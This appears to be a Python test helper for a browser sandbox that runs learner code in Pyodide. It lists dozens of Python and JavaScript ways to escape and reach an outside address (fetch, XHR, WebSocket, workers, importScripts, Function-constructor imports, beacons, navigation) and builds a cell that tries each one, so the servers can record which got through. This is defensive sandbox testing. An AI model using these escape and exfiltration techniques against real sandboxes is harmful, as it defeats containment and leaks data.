"""Ways out of the sealed room, as learner code would try them.

In each `TO` is the address to be reached; requests tell by it which attempt they come from. An attempt that
is refused is as good as one that fails later: what counts is what servers see.
"""

from __future__ import annotations

import json
from collections.abc import Collection, Mapping
from urllib.parse import parse_qs, urlsplit

__all__ = ["JAVASCRIPT", "PYTHON", "RAN", "WORKERS", "attempts_cell", "tag_of"]

PYTHON: Mapping[str, str] = {
    "fetch": "js.fetch(TO)",
    "fetch-of-the-prototype": "first('fetch')(TO)",
    "xhr": "x = js.XMLHttpRequest.new(); x.open('GET', TO, False); x.send()",
    "xhr-later": "x = js.XMLHttpRequest.new(); x.open('POST', TO); x.send('secret')",
    "websocket": "js.WebSocket.new(WS)",
    "event-source": "js.EventSource.new(TO)",
    "import-scripts": "first('importScripts')(TO)",
    "worker": "js.Worker.new(TO)",
    "font": "js.FontFace.new('x', f'url({TO})').load()",
    "function-constructor": "js.setTimeout.constructor(f'return import(`{TO}`)')()",
    "async-function-constructor": "pyodide_js.loadPackage.constructor(f'return import(`{TO}`)')()",
    "text-for-a-timer": "js.setTimeout(f'import(`{TO}`)', 0)",
    "load-package": "pyodide_js.loadPackage(TO + '&x=/x-1-py3-none-any.whl')",
    "micropip": "import micropip; asyncio.ensure_future(micropip.install(TO + '&x=/x-1-py3-none-any.whl'))",
    "pyfetch": "from pyodide.http import pyfetch; asyncio.ensure_future(pyfetch(TO))",
    "open-url": "from pyodide.http import open_url; open_url(TO)",
    "urllib": "import urllib.request; urllib.request.urlopen(TO, timeout=2)",
    "socket": "import socket; s = urlsplit(TO); socket.create_connection((s.hostname, s.port), timeout=2)",
    "form": "f = js.document.createElement('form'); f.action = TO; js.document.body.append(f); f.submit()",
    "frame": "f = js.document.createElement('iframe'); f.src = TO; js.document.body.append(f)",
    "location": "js.location.href = TO",
    "location-of-the-frame": "js.parent.location.href = TO",
    "location-of-the-page": "js.top.location.href = TO",
    "window": "js.open(TO)",
}
"""By what Python has of JavaScript: no text becomes code but by the constructors."""

JAVASCRIPT: Mapping[str, str] = {
    "js-fetch": "first('fetch')(TO)",
    "js-fetch-no-cors": "first('fetch')(TO, { mode: 'no-cors' })",
    "js-fetch-same-origin": "first('fetch')(TO, { mode: 'same-origin' })",
    "js-fetch-keepalive": "first('fetch')(TO, { keepalive: true, method: 'POST', mode: 'no-cors' })",
    "js-fetch-request": "first('fetch')(new Request(TO, { mode: 'no-cors' }))",
    "js-fetch-credentials": "first('fetch')(TO, { mode: 'no-cors', credentials: 'include' })",
    "js-xhr": "const x = new XMLHttpRequest(); x.open('GET', TO, false); x.send()",
    "js-websocket": "new WebSocket(WS)",
    "js-event-source": "new EventSource(TO)",
    "js-import": "import(TO).catch(() => 0)",
    "js-function": "(() => 0).constructor('return import(`' + TO + '`)')().catch(() => 0)",
    "js-async-function": "(async () => 0).constructor('return import(`' + TO + '`)')().catch(() => 0)",
    "js-generator-function": "(function* () {}).constructor('yield import(`' + TO + '`)')().next()",
    "js-import-scripts": "first('importScripts')(TO)",
    "js-worker": "new Worker(TO)",
    "js-module-worker": "new Worker(TO, { type: 'module' })",
    "js-shared-worker": "new SharedWorker(TO)",
    "js-worker-of-a-blob": "new Worker(blob(`fetch('${TO}', { mode: 'no-cors' })`))",
    # Its error, unless held here, would end the Python that made it, sooner or later in the run.
    "js-worker-that-imports": "new Worker(blob(`importScripts('${TO}')`)).onerror = held",
    "js-beacon": "navigator.sendBeacon(TO, 'secret')",
    "js-service-worker": "navigator.serviceWorker.register(TO)",
    "js-cache": "caches.open('x').then((cache) => cache.add(TO))",
    "js-clients": "clients.openWindow(TO)",
    "js-navigation": "location.assign(TO)",
}
"""By scripts, as far as they can be brought to run: text as code, or a script of a blob."""

WORKERS = ("worker", "js-worker", "js-module-worker", "js-worker-of-a-blob", "js-worker-that-imports")
"""Those that make a worker: Firefox does not always come back from that, so each wants a run of its own."""

RAN = "a script ran"

_FIRST = """
const first = (name) => {
  let found;
  for (let holder = self; holder !== null; holder = Object.getPrototypeOf(holder)) {
    found = Object.getOwnPropertyDescriptor(holder, name)?.value ?? found;
  }
  return found.bind(self);
};
const held = (event) => event.preventDefault();
const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
"""

_CELL = """
import asyncio, js, pyodide_js
from pyodide.code import run_js
from pyodide.ffi import JsProxy, to_js
from urllib.parse import urlsplit

def first(name):
    # As it was before anything was put in front of it.
    holder, found = js.self, None
    while isinstance(holder, JsProxy):
        if js.Object.getOwnPropertyDescriptor(holder, name) is not None:
            found = getattr(holder, name)
        holder = js.Object.getPrototypeOf(holder)
    return lambda *given: js.Reflect.apply(found, js.self, to_js(given))

def script(text):
    text = "(() => { try {" + text + "} catch (error) { self.told = String(error); } })()"
    try:
        run_js(text)
    except BaseException:
        first("importScripts")(js.URL.createObjectURL(js.Blob.new(to_js([text]), type="text/javascript")))

def attempt(name, do):
    js.told = ""
    print(name, "is tried", flush=True)
    try:
        do()
        print(name, "began", js.told)
    except BaseException as error:
        print(name, "refused by", type(error).__name__, str(error)[:80])

def proof():
    script("self.ran = 1")
    print(RAN if js.ran == 1 else "")

attempt("proof", proof)
for target in TARGETS:
    for name, code in PYTHON.items():
        TO = target + name
        attempt(name, lambda: exec(code, {**globals(), "TO": TO, "WS": TO.replace("http", "ws", 1)}))
    for name, code in JAVASCRIPT.items():
        TO = target + name
        words = f"const TO = '{TO}', WS = '{TO.replace('http', 'ws', 1)}';"
        attempt(name, lambda: script(words + FIRST + code))
"""


def attempts_cell(names: Collection[str], *targets: str) -> str:
    """A cell that tries those of these names on all addresses, which end in something like `?out=`."""
    python = {name: code for name, code in PYTHON.items() if name in names}
    javascript = {name: code for name, code in JAVASCRIPT.items() if name in names}
    given = {"TARGETS": targets, "PYTHON": python, "JAVASCRIPT": javascript, "FIRST": _FIRST, "RAN": RAN}
    # Below `exec`: with the names its own, and not what the editor would have to draw.
    return f"import json\nexec({_CELL!r}, json.loads({json.dumps(given)!r}))\n"


def tag_of(path: str, key: str) -> str:
    """The attempt that a request comes from; empty if it comes from none."""
    return parse_qs(urlsplit(path).query).get(key, [""])[0]
